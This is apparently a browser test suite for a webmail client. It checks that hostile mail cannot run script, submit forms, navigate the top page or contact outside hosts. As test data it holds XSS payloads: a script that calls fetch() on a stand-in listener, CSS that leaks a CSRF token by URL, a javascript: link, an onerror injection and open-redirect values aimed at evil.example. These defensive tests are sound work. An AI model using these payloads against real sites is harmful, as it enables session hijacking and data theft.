"""Mail that attacks its reader. Nothing runs, nothing is asked for, nothing leaves."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, Route, expect

from tests.browser.conftest import Site, open_context
from tests.browser.listener import Listener
from tests.browser.mails import hostile
from tests.support.waiting import eventually

_KINDS = sorted(hostile("http://nowhere.example"))


def requests_of(page: Page) -> list[str]:
    """Everything that the browser asks for, in all frames, whether it is let or not."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.context.on("request", note)
    return asked


@pytest.mark.parametrize("kind", _KINDS)
def test_nothing_runs_and_nothing_is_asked_for(page: Page, site: Site, away: Listener, kind: str) -> None:
    asked = requests_of(page)
    before = len(away.asked)
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    address = f"/messages/{site.ids[f'Hostile {kind}']}"
    page.goto(address)
    frame = page.frame_locator("iframe.mail-html")
    expect(frame.locator("body")).to_be_attached()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.hurt") is None
    assert "PWNED" not in frame.locator("body").inner_text()
    for bad in ("script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg", "math", "video"):
        assert frame.locator(f"body {bad}").count() == 0, bad
    assert [url for url in asked if not url.startswith((site.url, "data:"))] == []
    assert len(away.asked) == before
    assert dialogs == []
    assert page.url == site.url + address
    assert len(page.frames) == 2


def test_the_frame_runs_nothing_and_has_a_strict_policy(page: Page, site: Site) -> None:
    address = f"/messages/{site.ids['Hostile script']}"
    page.goto(address)
    sandbox = (page.locator("iframe.mail-html").get_attribute("sandbox") or "").split()
    assert not {"allow-scripts", "allow-forms", "allow-top-navigation", "allow-modals", "allow-downloads"} & set(sandbox)
    answer = page.request.get(f"{site.url}{address}/body")
    policy = [one.strip() for one in answer.headers["content-security-policy"].split(";")]
    assert {"default-src 'none'", "script-src 'none'", "form-action 'none'", "base-uri 'none'"} <= set(policy)
    assert policy[0].split() == ["sandbox", *sandbox]
    assert answer.headers["referrer-policy"] == "no-referrer"


def test_mail_that_passed_the_sanitiser_still_can_do_nothing(page: Page, site: Site, away: Listener) -> None:
    """The attacks as they are, with the headers of the frame: as if nothing had been removed from them."""
    attacks = "".join(hostile(away.url).values())
    attacks += (
        f"<script>top.hurt=1;parent.document.body.innerHTML='PWNED';fetch('{away.url}/same-origin')</script>"
        "<form action='/saved' method=post id=f><input name=query value=PWNED><button id=send>send</button></form>"
        "<a id=up href='/settings' target=_top>up</a><a id=own-js href='javascript:top.hurt=1'>js</a>"
        f"<style>html[lang]{{background:url({away.url}/leak)}}meta[name=csrf]{{content:url({away.url}/csrf)}}</style>"
    )
    asked, before = requests_of(page), len(away.asked)
    address = f"/messages/{site.ids['Hostile script']}"

    def unsanitised(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=f"<!doctype html><html lang=en><body>{attacks}")

    context_pages = len(page.context.pages)
    quiet = page.context.new_page()  # its own listeners: this document may complain
    quiet.route("**/body", unsanitised)
    quiet.goto(address)
    frame = quiet.frame_locator("iframe.mail-html").first
    expect(frame.locator("#send")).to_be_attached()
    quiet.wait_for_load_state("networkidle")
    for one in ("#send", "#up", "#own-js"):
        frame.locator(one).dispatch_event("click")
    quiet.wait_for_load_state("networkidle")
    assert quiet.evaluate("window.hurt") is None
    assert quiet.locator("h1").first.inner_text() == "Hostile script"
    assert quiet.url == site.url + address
    assert [url for url in asked if url.endswith(("/saved", "/settings"))] == []
    assert away.asked[before:] == []
    assert len(page.context.pages) == context_pages + 1
    quiet.close()


def test_a_frame_is_as_tall_as_its_mail(page: Page, site: Site) -> None:
    """Also if the mail claims to be taller than its frame, whatever that is."""

    def height_with(html: str) -> int:
        page.unroute("**/body")
        body = f"<!doctype html><style>*{{margin:0}}</style>{html}"
        page.route("**/body", lambda route: route.fulfill(response=route.fetch(), body=body))
        page.goto(f"/messages/{site.ids['Hostile script']}")
        page.frame_locator("iframe.mail-html").locator("#end").wait_for(state="attached")
        page.wait_for_load_state("networkidle")
        return int(page.locator("iframe.mail-html").evaluate("one => one.getBoundingClientRect().height"))

    assert height_with("<div style='height:2345px'></div><i id=end></i>") in range(2345, 2400)
    assert height_with("<p id=end>one line</p>") < 120
    assert height_with("<div style='height:110vh'></div><i id=end></i>") < 300
    assert height_with("<div style='height:9999999px'></div><i id=end></i>") == 40_000
    page.unroute("**/body")
    page.route(
        "**/body",
        lambda route: route.fulfill(
            response=route.fetch(), body="<details><summary id=end>more</summary><div style='height:700px'></div></details>"
        ),
    )
    page.goto(f"/messages/{site.ids['Hostile script']}")
    page.frame_locator("iframe.mail-html").locator("#end").click()
    frame = page.locator("iframe.mail-html")
    eventually(lambda: frame.evaluate("one => one.getBoundingClientRect().height") > 700, what="the frame grows with its mail")


def test_remote_images_are_never_fetched_by_the_browser(browser: Browser, site: Site, away: Listener) -> None:
    """The server fetches them, and not from its own network, where the listener is."""
    context = open_context(browser, site, site.session())
    page = context.new_page()
    asked, before = requests_of(page), len(away.asked)
    page.goto(f"/messages/{site.ids['Hostile pixel']}")
    page.wait_for_load_state("networkidle")
    with page.expect_response(lambda answer: "/body?remote=1" in answer.url):
        page.get_by_role("link", name="Load").click()
    picture = page.frame_locator("iframe.mail-html").locator("img").first
    expect(picture).to_have_attribute("src", "data:,")
    page.wait_for_load_state("networkidle")
    assert [url for url in asked if not url.startswith((site.url, "data:"))] == []
    assert len(away.asked) == before
    context.close()


def test_links_lead_nowhere_by_script_and_say_where_they_lead(page: Page, site: Site, away: Listener) -> None:
    page.goto(f"/messages/{site.ids['Hostile links']}")
    links = page.frame_locator("iframe.mail-html").locator("a[href]")
    addresses = [one.get_attribute("href") or "" for one in links.all()]
    assert addresses == [f"{away.url}/ping"]
    assert links.first.get_attribute("ping") is None
    assert "noreferrer" in (links.first.get_attribute("rel") or "")
    page.get_by_text("1 link in this message").click()
    expect(page.locator("details code", has_text=away.url)).to_be_visible()


def test_names_and_subjects_are_never_html(page: Page, site: Site) -> None:
    attack = "<img src=x onerror=hurt=1>\"'{{7*7}}</title><script>hurt=1</script>"
    page.goto("/")
    page.get_by_role("combobox").fill(attack)
    page.wait_for_load_state("networkidle")
    page.goto(f"/?{page.evaluate('(q) => new URLSearchParams({ q }).toString()', attack)}")
    assert page.get_by_role("combobox").input_value() == attack
    assert page.evaluate("window.hurt") is None
    assert page.locator("main img").count() == 0
    for path in ("/sign-in?next=//evil.example/", "/sign-in?next=/\\evil.example", "/sign-in?next=https://evil.example"):
        assert 'name="next" value="/"' in page.request.get(site.url + path).text()
